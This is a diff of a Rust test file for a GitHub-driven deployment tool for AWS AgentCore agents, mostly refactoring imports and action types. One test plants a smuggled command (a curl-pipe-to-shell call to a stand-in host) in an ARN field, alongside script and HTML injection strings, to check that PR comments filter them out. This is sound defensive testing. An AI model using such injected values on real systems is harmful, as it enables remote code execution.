@@ -8,11 +8,11 @@ mod workflows;
 use std::path::{Path, PathBuf};
 
 use xtask::agents::{self, Agent};
-use xtask::aws::AwsArgs;
-use xtask::deploy::DeployOutcome;
+use xtask::context::AwsArgs;
 use xtask::github::event::{self, IssuesEvent};
 use xtask::github::metadata::{self, AgentVersion, FORMAT, Metadata};
 use xtask::github::{self as gh, EventArgs, render};
+use xtask::report::{DeployOutcome, PromoteAction, PromoteOutcome};
 
 use crate::support::{Ctx, copy_workspace, release_fixture, repo_root, snapshot_settings, xtask_command};
 
@@ -49,7 +49,7 @@ fn outcome(agent: &str, runtime: &str, version: &str, action: &str) -> DeployOut
         runtime_arn: Some(format!("arn:aws:bedrock-agentcore:us-east-1:123456789012:runtime/{runtime}-AbCdE12345")),
         version: Some(version.into()),
         status: "READY".into(),
-        action: action.into(),
+        action: action.parse().unwrap(),
         default_endpoint: Some("DEFAULT".into()),
         s3_key: Some(format!("{runtime}/v{version}/code.zip")),
         zip_sha256: "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855".into(),
@@ -113,15 +113,16 @@ fn pr_comment_snapshot() {
 }
 
 /// Result files come from the matrix jobs: whatever they hold is data. An ARN that could close the
-/// quotes or the code block, or an unknown action, is not printed.
+/// quotes or the code block, or an action that is not a deploy's, is not printed (an unknown action
+/// does not even read: see `pr_comment_refuses_results_that_do_not_belong`).
 #[test]
 fn pr_comment_prints_only_well_formed_values() {
     let mut hostile = deployed("echo_bot_pr_12", "3", "updated");
     hostile.runtime_arn = Some("arn:x' ; curl evil.sh | sh ; echo '\n```".into());
-    hostile.action = "<b>pwned</b>".into();
+    hostile.action = xtask::report::DeployAction::Planned;
     hostile.status = "READY`<script>".into();
     let markdown = render::pr_comment(12, COMMIT, "us-east-1", &[agent_result("echo_bot", Ok(hostile))]);
-    assert!(!markdown.contains("curl") && !markdown.contains("pwned"), "{markdown}");
+    assert!(!markdown.contains("curl") && !markdown.contains("planned"), "{markdown}");
     assert!(markdown.contains("--agent-runtime-arn '<runtime ARN>'"), "{markdown}");
     assert!(markdown.contains("| `READY<script>` | - |"), "{markdown}");
     // A pipe or a line break cannot end the cell or the row.
@@ -151,13 +152,13 @@ fn deployment_issue_snapshot() {
 #[test]
 fn promotion_and_refusal_snapshots() {
     let verified = parse(&valid_body()).unwrap();
-    let outcomes = vec![xtask::promote::PromoteOutcome {
+    let outcomes = vec![PromoteOutcome {
         agent: "echo_bot".into(),
         runtime_name: "echo_bot_prod".into(),
         endpoint: "prod".into(),
         previous_version: Some("1".into()),
         live_version: "2".into(),
-        action: "promoted".into(),
+        action: PromoteAction::Promoted,
         runtime_id: "echo_bot_prod-AbCdE12345".into(),
         endpoint_arn: None,
         record_key: None,
@@ -394,7 +395,7 @@ fn wrong_event_payloads_are_refused_with_the_file_named() {
         force: false,
         package_dir: None,
     };
-    let err = format!("{:#}", xtask::cli::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err());
+    let err = format!("{:#}", xtask::context::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err());
     assert!(err.contains("push_main_squash.json is not a `pull_request` event payload"), "{err}");
 
     let args = gh::PrDeployArgs {
@@ -405,7 +406,7 @@ fn wrong_event_payloads_are_refused_with_the_file_named() {
         force: false,
         package_dir: None,
     };
-    let err = format!("{:#}", xtask::cli::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err());
+    let err = format!("{:#}", xtask::context::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err());
     assert!(err.contains("not `closed`"), "{err}");
 
     let args = gh::PromoteArgs {
@@ -413,7 +414,7 @@ fn wrong_event_payloads_are_refused_with_the_file_named() {
         labeller_permission: "admin".into(),
         bot_login: gh::DEFAULT_BOT_LOGIN.into(),
     };
-    let err = format!("{:#}", xtask::cli::block_on(gh::promote(&ctx, &args, None)).unwrap_err());
+    let err = format!("{:#}", xtask::context::block_on(gh::promote(&ctx, &args, None)).unwrap_err());
     assert!(err.contains("neither an `issues` nor a `workflow_dispatch`"), "{err}");
 }
 
@@ -432,7 +433,7 @@ fn pr_without_agent_changes_deploys_nothing() {
         package_dir: None,
     };
     // No AWS is needed (nor reachable: the context points at no stack) when nothing changed.
-    let report = xtask::cli::block_on(gh::pr_deploy(&ctx(Some(dir.path())), &args, None)).unwrap();
+    let report = xtask::context::block_on(gh::pr_deploy(&ctx(Some(dir.path())), &args, None)).unwrap();
     assert_eq!(report.result, "nothing");
     let comment = std::fs::read_to_string(out).unwrap();
     assert!(comment.starts_with(render::PR_COMMENT_MARKER) && comment.contains("nothing was deployed"), "{comment}");
@@ -441,7 +442,7 @@ fn pr_without_agent_changes_deploys_nothing() {
 #[test]
 fn merged_pr_closing_keeps_its_runtimes() {
     let args = gh::PrClosedArgs { event: event_args("pr_closed_merged.json", None), dry_run: false };
-    let report = xtask::cli::block_on(gh::pr_closed(&ctx(None), &args, None)).unwrap();
+    let report = xtask::context::block_on(gh::pr_closed(&ctx(None), &args, None)).unwrap();
     assert_eq!((report.result.as_str(), report.pr, report.deleted.len()), ("kept", Some(12), 0));
 }
 
@@ -511,7 +512,7 @@ fn fork_pull_request_is_packaged_not_deployed() {
         force: false,
         package_dir: None,
     };
-    let report = xtask::cli::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap();
+    let report = xtask::context::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap();
     assert_eq!((report.result.as_str(), report.agents.as_slice()), ("packaged", &["echo_bot".to_owned()][..]));
     let comment = std::fs::read_to_string(out).unwrap();
     assert!(comment.contains("packaged but not deployed") && comment.contains("| `echo_bot` |"), "{comment}");
@@ -585,7 +586,7 @@ fn rollbacks_that_are_refused() {
             labeller_permission: permission.into(),
             bot_login: gh::DEFAULT_BOT_LOGIN.into(),
         };
-        let err = format!("{:#}", xtask::cli::block_on(gh::promote(&ctx, &args, None)).unwrap_err());
+        let err = format!("{:#}", xtask::context::block_on(gh::promote(&ctx, &args, None)).unwrap_err());
         assert!(err.contains("promotion refused") && err.contains(expected), "{expected}: {err}");
         assert!(std::fs::read_to_string(&out).unwrap().contains("Rollback refused"));
     }
@@ -699,6 +700,16 @@ fn pr_comment_refuses_results_that_do_not_belong() {
             "not an AgentCore status",
         ),
         (
+            "an unknown action",
+            vec![(
+                "d.json",
+                matrix_result("echo_bot", 12, PR_HEAD, good())
+                    .replace(r#""action":"updated""#, r#""action":"<b>pwned</b>""#),
+            )],
+            r#"["echo_bot"]"#,
+            "not a result file",
+        ),
+        (
             "a version that is not one",
             vec![("d.json", matrix_result("echo_bot", 12, PR_HEAD, Ok(deployed("echo_bot_pr_12", "v3", "updated"))))],
             r#"["echo_bot"]"#,
@@ -758,7 +769,7 @@ fn a_fork_is_never_deployed_one_agent_at_a_time() {
         force: false,
         package_dir: None,
     };
-    let err = format!("{:#}", xtask::cli::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err());
+    let err = format!("{:#}", xtask::context::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err());
     assert!(err.contains("comes from a fork") && err.contains("no deploy"), "{err}");
     assert!(!dir.path().join("result.json").exists());
 }
@@ -779,7 +790,7 @@ fn a_failed_matrix_job_still_writes_its_result() {
         // An empty folder: the zip is missing, so the deploy fails before it changes anything.
         package_dir: Some(dir.path().join("zips")),
     };
-    let err = format!("{:#}", xtask::cli::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err());
+    let err = format!("{:#}", xtask::context::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err());
     assert!(err.contains("deploy failed for echo_bot"), "{err}");
     let written: Vec<render::AgentResult> = serde_json::from_str(&std::fs::read_to_string(&result).unwrap()).unwrap();
     assert_eq!((written.len(), written[0].agent.as_str(), written[0].pr), (1, "echo_bot", 12));
@@ -788,7 +799,7 @@ fn a_failed_matrix_job_still_writes_its_result() {
     // An agent that does not exist is refused before anything is written.
     let args = gh::PrDeployArgs { agent: Some("evil_bot".into()), ..args };
     std::fs::remove_file(&result).unwrap();
-    let err = xtask::cli::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err().to_string();
+    let err = xtask::context::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err().to_string();
     assert!(err.contains("no agent named `evil_bot`"), "{err}");
     assert!(!result.exists());
 }
